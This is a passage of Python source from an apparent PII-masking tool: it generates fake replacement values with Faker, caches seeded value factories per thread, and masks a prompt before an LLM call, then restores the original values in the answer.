            # the generator's pools are finite (first names): after 3 taken draws, the value's shape
            if i < 3 and label in self._generated and label in CLASSES:
                fake = self.values(label)
                if label == "CREDITCARDNUMBER":
                    fake = fake.replace(" ", "")
            else:
                fake = self._shape(value)
            # a fake must be new and must not hold its value (the masker checks the rest)
            if fake and fake not in taken and value not in fake and fake not in value:
                return fake
        return f"[{_label_name(label)}_{len(taken) + 1}]"


_LOCAL = threading.local()


def _value_factory(seed: int) -> ValueFactory:
    """A ValueFactory in the state ``ValueFactory(seed)`` starts in, without building Faker again
    (22 ms): one per thread and seed, its random generators rewound to their first state."""
    cache = _LOCAL.__dict__.setdefault("factories", {})
    if seed not in cache:
        vf = ValueFactory(seed=seed)
        gens = [vf.rng] + [
            getattr(f, "random", None)
            for f in (*getattr(vf, "_fakers", {}).values(), getattr(vf, "_en", None))
            if f is not None
        ]
        gens = [g for g in gens if isinstance(g, random.Random)]
        cache[seed] = (vf, gens, [g.getstate() for g in gens])
    vf, gens, states = cache[seed]
    for g, state in zip(gens, states):
        g.setstate(state)
    return vf


# -- the LLM round trip ------------------------------------------------------------------------


def roundtrip(masker: Masker, prompt: str, llm: Callable[[str], str], style: str = "[LABEL_n]") -> dict:
    """Mask the prompt, ask the LLM, restore the values in its answer."""
    masked = masker.mask(prompt, style)
    answer = llm(masked.masked_text)
    return {
        "prompt": prompt,
        "masked_prompt": masked.masked_text,
        "entities": masked.entities,
        "answer": answer,
        "restored_answer": unmask(answer, masked.mapping),
        "mapping": masked.mapping,
    }
